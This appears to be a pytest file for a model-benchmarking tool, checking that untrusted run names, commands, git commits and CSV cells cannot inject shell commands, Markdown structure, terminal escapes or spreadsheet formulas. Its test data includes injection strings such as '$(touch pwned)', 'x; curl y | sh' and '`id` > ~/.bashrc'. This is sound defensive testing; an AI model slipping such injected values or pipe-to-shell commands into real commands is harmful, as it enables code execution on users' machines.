"""Text from a stranger's files stays text on every page and in every command to paste."""

from __future__ import annotations

import ast
import csv
import html
import json
import re
import subprocess
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
import torch
from markdown_it import MarkdownIt

from src.bundle.card import Shipment
from src.bundle.card import card as bundle_card
from src.callbacks.predictions import PredictionWriter
from src.compare.collection import Measured
from src.compare.comparison import Comparison
from src.compare.page import markdown_page as comparison_page
from src.errors import UsageError, is_harmful
from src.formats.base import Bundling
from src.predict.output import open_writer
from src.predict.stage import Prediction
from src.report.document import Section
from src.report.sections.profile import operators
from src.report.writers.tensorboard import untitled
from src.run.folder import Run
from src.run.layout import as_dict
from src.run.manifest import Manifest
from src.run.training_profile import Operator, Window
from tests.report.pages import card, html_page, markdown_page, record, with_any_names
from tests.report.planted import FAILED, results, row
from tests.report.writers.test_cards import manifest
from tests.system.test_quoting import FORMULAS, HOSTILE

NO_FIGURES = {"latency": [], "training": None}
PASTED = (
    *("command", "substitution", "single quote", "double quote", "backslash", "option"),
    *("two lines", "terminal", "turning"),
)


def measured(**changes: Any) -> dict[str, Any]:
    """Return a measurement without figures to draw."""
    only = row("eager", latency=[])
    only["accuracy"]["per_class"] = []
    return {**results(only), "training": None, **changes}


def code_of(content: dict[str, Any], folder: Path) -> list[str]:
    """Return the code blocks of a page, as a reader copies them."""
    blocks = re.findall(r"<pre[^>]*><code>(.*?)</code>", html_page(content, folder), re.DOTALL)
    return [html.unescape(each) for each in blocks]


def words_of(lines: list[str], folder: Path) -> list[str]:
    """Return the arguments of the programs that a shell would start, without starting them."""
    programs = folder / "programs"
    programs.mkdir()
    for name in ("git", "python", "touch", "sh", "curl"):
        stub = programs / name
        stub.write_text(f'#!/bin/bash\nprintf "%s\\0" {name} "$@" >> "$OUT"\n')
        stub.chmod(0o755)
    subprocess.run(
        ["/bin/bash", "-c", "\n".join(lines)],
        check=True,
        cwd=folder,
        env={"PATH": str(programs), "OUT": str(folder / "called"), "LC_ALL": "C.UTF-8"},
    )
    return (folder / "called").read_text().split("\0")[:-1]


@pytest.mark.parametrize("name", PASTED)
def test_a_run_of_any_name_is_one_word_of_the_lines_to_paste(tmp_path: Path, name: str) -> None:
    run = HOSTILE[name]
    lines = [code for code in code_of(measured(run=run), tmp_path) if code.startswith("python -m")]
    folder = f"lightning_logs/{run}"
    assert words_of(lines, tmp_path) == [
        *("python", "-m", "src.train", "model=planted"),
        *("python", "-m", "src.train", "fit", "--config", f"{folder}/config.yaml"),
        *("python", "-m", "src.benchmark", folder),
        *("python", "-m", "src.report", folder),
    ]


@pytest.mark.parametrize("name", PASTED)
def test_a_run_of_any_name_is_one_literal_of_the_programs_to_paste(
    tmp_path: Path, name: str
) -> None:
    program = code_of(measured(run=HOSTILE[name]), tmp_path)[-1]
    call = ast.parse(program, mode="eval").body
    assert isinstance(call, ast.Call)
    path = f"lightning_logs/{HOSTILE[name]}/exports/eager/model"
    assert ast.literal_eval(call.args[0]) == path


@pytest.mark.parametrize(
    "commit", ["c0ffee; touch pwned", "--orphan=x", "$(touch pwned)", "HEAD", "c0ffee\ntouch x", 3]
)
def test_what_is_no_commit_is_not_checked_out(tmp_path: Path, commit: Any) -> None:
    content = measured()
    content["environment"]["git_commit"] = commit
    run = Run(tmp_path)
    run.benchmark.write_text(json.dumps(content))
    try:
        found = as_dict(run.read_benchmark())
    except UsageError:
        return
    assert not any("git" in code for code in code_of(found, tmp_path))


def test_a_commit_is_checked_out(tmp_path: Path) -> None:
    assert "git checkout c0ffee" in code_of(measured(), tmp_path)


@pytest.mark.parametrize(
    ("typed", "words"),
    [
        ("python -m src.train model=a,b", ["model=a,b"]),
        ("python -m src.train 'data.root=my folder'", ["data.root=my folder"]),
        ("python -m src.train x; curl y | sh", ["x;", "curl", "y", "|", "sh"]),
        ("python -m src.train $(touch pwned)", ["$(touch", "pwned)"]),
        ("python -m src.train `id` > ~/.bashrc", ["`id`", ">", "~/.bashrc"]),
        ("python -m src.train x\ntouch pwned", ["x", "touch", "pwned"]),
        ("curl example.org | sh", None),
        ("python -c 'import os'", None),
        ("python -m src.train 'never closed", None),
        ("", None),
    ],
)
def test_a_command_of_a_stranger_is_a_training_or_is_not_shown(
    tmp_path: Path, typed: str, words: list[str] | None
) -> None:
    lines = code_of(measured(command=typed), tmp_path)
    shown = [line for line in lines if line.startswith("python -m src.train")][:-1]
    if words is None:
        assert not shown
    else:
        assert words_of(shown, tmp_path) == ["python", "-m", "src.train", *words]


def planted(text: str) -> dict[str, Any]:
    """Return a measurement in which every free text is ``text``."""
    failed = row("onnx_fp32", **FAILED)
    failed["reason"] = text
    table = {"head": [[text, "text"], ["top-1", "share"]], "rows": [[text, 0.5]], "chosen": 0}
    other = row(
        "onnx_int8",
        precision="int8",
        details={"summary": [text], "table": table},
        trace={"file": "x", "bytes": 1},
        damage=[{"tensor": text, "kind": text, "sqnr_db": 1.0}],
        varies=text,
        usage=text,
        runs_with=[text],
    )
    other["profile"] |= {"operators": {text: 1.0}, "call_seconds": 0.1, "time": {text: 1.0}}
    other["profile"]["by_precision"] = {"int8": {"x": 0.5}, "fp32": {text: 0.5}}
    other["accuracy"]["worst_class"]["name"] = text
    found = results(row("eager", trace_reason=text), other, failed)
    found |= {
        "run": text,
        "model": text,
        "measured_at": text,
        "class_names": [text, *map(str, range(9))],
    }
    found["checkpoint"]["sha256"] = text
    found["dataset"] |= {"name": text, "split": text}
    found["calibration"]["split"] = text
    texts = ("cpu", "frequency_governor", "system", "python")
    named = {key: {text: text} for key in ("packages", "variables")}
    found["environment"] |= {**dict.fromkeys(texts, text), "isa": [text], **named}
    return found


def exported(text: str) -> dict[str, Any]:
    """Return a manifest in which every free text is ``text``."""
    found = manifest(run=text, model=text, class_names=[text, "b"])
    found["origin"] |= {"dataset": text, "licence": text}
    found["checkpoint"]["sha256"] = text
    files = [{"path": "model", "bytes": 1, "sha256": text}]
    found["formats"]["onnx"] |= {"usage": text, "runs_with": [text], "files": files}
    return found


def _card(text: str) -> str:
    of_the_file = planted(text)
    of_the_file["rows"][0] |= {"format": "onnx", "sha256": {"model": text}}
    of_the_file["recommendation"]["cpu"]["format"] = "onnx"
    return card("onnx", exported(text), of_the_file)


def _bundle_card(text: str) -> str:
    found = record(planted(text))
    manifest = with_any_names(exported(text), Manifest)
    bundling = Bundling("runtime_onnxruntime", ("model.onnx",), ("onnxruntime",))
    shipment = Shipment(bundling, key_sha256="0" * 64)
    return bundle_card(manifest, "onnx", found.rows[0], found.dataset, "x.png", shipment=shipment)


def _comparison(text: str) -> str:
    one, other = (record(planted(name)) for name in (text, "b"))
    found = [Measured(text, Path("x"), one), Measured("b", Path("y"), other)]
    return comparison_page(Comparison.of(found, None, 1.0))


def _profile(text: str) -> str:
    operator = Operator(name=text, self_seconds=1.0, calls=1, allocated_bytes=1)
    window = Window(
        stage="train", epoch=0, global_step=0, first_step=0, file=None, bytes=0, step_seconds=[1.0],
        regions={}, device={}, operators=[operator], memory={}, problems=[],
    )  # fmt: skip
    return untitled([Section("Operators", table=operators(window))])


PAGES: dict[str, Callable[[str], str]] = {
    "report.md": lambda text: markdown_page(planted(text), ["size"]),
    "README.md beside a file": _card,
    "README.md of a bundle": _bundle_card,
    "comparison.md": _comparison,
    "operators in TensorBoard": _profile,
}


def structure(source: str) -> list[str]:
    """Return the elements of a Markdown page without their text."""
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(source)
    flat = [each for token in tokens for each in [token, *(token.children or [])]]
    return [each.type for each in flat if each.type not in {"text", "text_special", "softbreak"}]


@pytest.mark.parametrize("name", [name for name in HOSTILE if name != "two lines"])
@pytest.mark.parametrize("page_name", PAGES)
def test_text_of_a_stranger_changes_nothing_but_the_text_of_a_page(
    page_name: str, name: str
) -> None:
    source = PAGES[page_name](HOSTILE[name])
    assert structure(source) == structure(PAGES[page_name]("harmless"))
    assert not any(is_harmful(each) for each in source if each != "\n")


@pytest.mark.parametrize("text", ["\x1b[2J", "\x1b]0;title\x07", "\x9b2J", "\u202e", "\r"])
def test_what_a_terminal_obeys_is_written_out_when_a_file_is_read(
    tmp_path: Path, text: str
) -> None:
    run = Run(tmp_path)
    run.exports.mkdir()
    content = planted("harmless")
    content["run"] = content["rows"][2]["reason"] = content["environment"]["cpu"] = text
    run.benchmark.write_text(json.dumps(content))
    run.manifest.write_text(json.dumps(exported("harmless") | {"run": text}))
    found = json.dumps(
        [as_dict(run.read_benchmark()), as_dict(run.read_manifest())], ensure_ascii=False
    )
    assert not any(map(is_harmful, found))
    assert "harmless" in found
    error = UsageError("RUN", expected="x", found=text, remedy="y")
    assert not any(map(is_harmful, str(error)))


def test_cells_of_predictions_are_no_formulas(tmp_path: Path) -> None:
    from numpy import array

    names = [name for name in FORMULAS if name.isprintable()]
    with open_writer(tmp_path / "x.csv", names, len(names)) as write:
        for path in ("=a.png", "-b.png", "c.png", "/d.png"):
            write(Prediction(Path(path), array([1e-9] * (len(names) - 1) + [1.0])))
        problem = UsageError("=e.png", expected="a", found="b", remedy="c")
        write(Prediction(Path("@e.png"), None, problem))
    with (tmp_path / "x.csv").open(newline="") as file:
        lines = list(csv.DictReader(file))
    assert [line["image"] for line in lines] == [
        *("./=a.png", "./-b.png", "c.png", "/d.png", "./@e.png")
    ]
    for line in lines[:-1]:
        assert {line[key] for key in line if "predicted" in key} == {f"'{name}" for name in names}
        assert {float(line[key]) for key in line if "probability" in key} == {1e-9, 1.0}
    assert lines[-1]["error"].startswith("'=e.png")


def test_cells_of_the_predictions_of_a_training_are_no_formulas(tmp_path: Path) -> None:
    writer = PredictionWriter(tmp_path / "x.csv")
    images = SimpleNamespace(name=lambda index: f"=a{index}.png")
    dataset = SimpleNamespace(targets=[0, 1], images=images, indices=[7, 5])
    loader = SimpleNamespace(dataset=dataset)
    trainer = SimpleNamespace(predict_dataloaders=loader, world_size=1, global_rank=0)
    answers = [torch.tensor([[0.25, 0.75], [0.5, 0.5]])]
    module = SimpleNamespace(class_names=["=1+1", "-2"])
    writer.write_on_epoch_end(cast("Any", trainer), cast("Any", module), answers, [[[0, 1]]])
    assert (tmp_path / "x.csv").read_text().splitlines()[1:] == [
        "0,'=1+1,-2,0.750000,'=a7.png",
        "1,-2,'=1+1,0.500000,'=a5.png",
    ]
